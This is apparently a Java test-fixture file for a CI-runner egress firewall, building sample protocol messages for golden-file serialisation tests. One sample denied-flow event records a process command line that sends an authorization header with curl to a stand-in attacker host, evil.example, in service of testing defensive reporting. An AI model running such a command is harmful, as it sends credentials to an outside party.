package io.fleetwall.protocol.wire;

import io.fleetwall.policy.catalogue.Job;
import io.fleetwall.policy.catalogue.Scope;
import io.fleetwall.policy.document.Mode;
import io.fleetwall.protocol.event.Destination;
import io.fleetwall.protocol.event.Event;
import io.fleetwall.protocol.event.EventKind;
import io.fleetwall.protocol.event.Judgement;
import io.fleetwall.protocol.event.Naming;
import io.fleetwall.protocol.event.ProcessIdentity;
import io.fleetwall.protocol.message.Applied;
import io.fleetwall.protocol.message.Attestation;
import io.fleetwall.protocol.message.Capability;
import io.fleetwall.protocol.message.Capability.Presence;
import io.fleetwall.protocol.message.Desired;
import io.fleetwall.protocol.message.Digest;
import io.fleetwall.protocol.message.EventAck;
import io.fleetwall.protocol.message.EventBatch;
import io.fleetwall.protocol.message.Goodbye;
import io.fleetwall.protocol.message.Heartbeat;
import io.fleetwall.protocol.message.Hello;
import io.fleetwall.protocol.message.KeyStatement;
import io.fleetwall.protocol.message.KeysChanged;
import io.fleetwall.protocol.message.Message;
import io.fleetwall.protocol.message.NodeState;
import io.fleetwall.protocol.message.Refused;
import io.fleetwall.protocol.message.RunnerReport;
import io.fleetwall.protocol.message.ScopeChanged;
import io.fleetwall.protocol.message.SignedPolicy;
import io.fleetwall.protocol.message.Welcome;
import java.nio.charset.StandardCharsets;
import java.time.Duration;
import java.time.Instant;
import java.util.Arrays;
import java.util.List;
import java.util.Map;
import java.util.Objects;
import java.util.Optional;
import java.util.TreeMap;
import java.util.TreeSet;
import java.util.UUID;

/** One message of each type, by the name of its golden file. */
final class Samples {
    static final Job JOB =
            new Job(
                    "acme",
                    "acme/api",
                    "build.yml",
                    "test",
                    "refs/heads/main",
                    "4711",
                    2,
                    "octocat");
    static final Scope SCOPE = new Scope(new TreeSet<>(List.of("x64", "linux")), Optional.of(JOB));
    private static final UUID BOOT = UUID.fromString("018f3f5e-7d2b-7cc1-8d0e-0123456789ab");
    private static final Instant AT = Instant.parse("2026-11-21T12:34:56.789Z");
    private static final Digest BODY = Digest.of(bytes("body"));

    private Samples() {}

    static Map<String, Message> all() {
        Map<String, Message> all = new TreeMap<>();
        Scope idle = new Scope(new TreeSet<>(List.of("linux")), Optional.empty());
        all.put(
                "hello",
                new Hello(
                        1,
                        "node-1",
                        BOOT,
                        "0.1.0",
                        "6.18.44",
                        List.of(
                                new RunnerReport("a", "veth0", SCOPE, 7, BODY),
                                new RunnerReport("b", "veth1", idle, 0, Digest.NONE))));
        all.put("scope-changed", new ScopeChanged("a", SCOPE));
        all.put("applied", new Applied("a", 7, Digest.of(bytes("scope")), BODY, 8_421));
        all.put(
                "refused",
                new Refused("a", 8, BODY, "FW-N003", "signature", "enrol again — bitte"));
        all.put("event-batch", new EventBatch(BOOT, 41, List.of(denied(), loss())));
        all.put("event-batch-process", new EventBatch(BOOT, 43, List.of(attributed(), denied())));
        all.put("event-batch-parts", new EventBatch(BOOT, 45, List.of(whole(), loss())));
        all.put("heartbeat", new Heartbeat(AT));
        all.put(
                "node-state",
                new NodeState(
                        List.of(
                                new Capability("tcx", Presence.PRESENT),
                                new Capability("btf", Presence.MISSING),
                                new Capability("jit", Presence.UNKNOWN)),
                        List.of(
                                new Attestation("a", AT, Optional.empty()),
                                new Attestation("b", AT, Optional.of(finding())))));
        all.put("welcome", new Welcome(1, "gateway-0", Duration.ofSeconds(1)));
        all.put("desired", new Desired("a", signed(Optional.of(bytes("body")))));
        all.put("desired-bodiless", new Desired("a", signed(Optional.empty())));
        all.put("event-ack", new EventAck(BOOT, 42));
        byte[] signature = new byte[64];
        Arrays.fill(signature, (byte) 7);
        all.put(
                "keys-changed",
                new KeysChanged(
                        List.of(
                                new KeyStatement(
                                        3,
                                        List.of(bytes("key one"), bytes("key two")),
                                        "0123456789abcdef",
                                        signature))));
        all.put("goodbye", new Goodbye("draining", Duration.ofMillis(1_500)));
        return all;
    }

    private static Attestation.Finding finding() {
        return new Attestation.Finding(
                EventKind.TAMPER_DETACHED,
                AT.minusMillis(1_000),
                "veth1: no program is attached; it is as it was again");
    }

    static Message named(String name) {
        return Objects.requireNonNull(all().get(name), name);
    }

    static Event denied() {
        return new Event(
                BOOT,
                AT,
                "node-1",
                "a",
                EventKind.FLOW_DENIED,
                Optional.of(JOB),
                Optional.of(new Destination("203.0.113.66", 443, "tcp", "")),
                Optional.of(
                        new Judgement(
                                "denied-by-rule",
                                Mode.ENFORCE,
                                7,
                                "acme",
                                "deny cidr 203.0.113.0/24",
                                "acme.yaml",
                                12)),
                3,
                "blocked");
    }

    static Event attributed() {
        Event denied = denied();
        return new Event(
                denied.id(),
                denied.at(),
                denied.node(),
                denied.runner(),
                denied.kind(),
                denied.job(),
                denied.destination(),
                denied.judgement(),
                Optional.of(
                        new ProcessIdentity(
                                4711,
                                4_294_967_294L,
                                "curl",
                                "/usr/bin/curl",
                                "curl -H \"Authorization: ***\" https://evil.example",
                                List.of(
                                        new ProcessIdentity.Parent(4710, "bash"),
                                        new ProcessIdentity.Parent(4700, "")),
                                "/actions.slice/job.scope",
                                "0123456789abcdef".repeat(4))),
                denied.count(),
                denied.message());
    }

    static Event whole() {
        Event attributed = attributed();
        return new Event(
                attributed.id(),
                attributed.at(),
                attributed.node(),
                attributed.runner(),
                attributed.kind(),
                attributed.job(),
                Optional.of(
                        new Destination(
                                "203.0.113.66",
                                443,
                                "tcp",
                                "www.evil.example",
                                new Naming(
                                        Naming.Source.DNS_ANSWER,
                                        List.of("cdn.evil.example", "edge.evil.example")))),
                attributed.judgement(),
                attributed.process(),
                attributed.count(),
                attributed.message(),
                Duration.ofSeconds(5),
                List.of("linux", "x64"));
    }

    private static Event loss() {
        return new Event(
                BOOT,
                AT,
                "node-1",
                "",
                EventKind.LOSS,
                Optional.empty(),
                Optional.empty(),
                Optional.empty(),
                9,
                "ring buffer full");
    }

    private static SignedPolicy signed(Optional<byte[]> body) {
        byte[] signature = new byte[64];
        signature[0] = 1;
        return new SignedPolicy(
                7, Digest.of(bytes("scope")), BODY, "0011223344556677", signature, body);
    }

    private static byte[] bytes(String text) {
        return text.getBytes(StandardCharsets.UTF_8);
    }
}
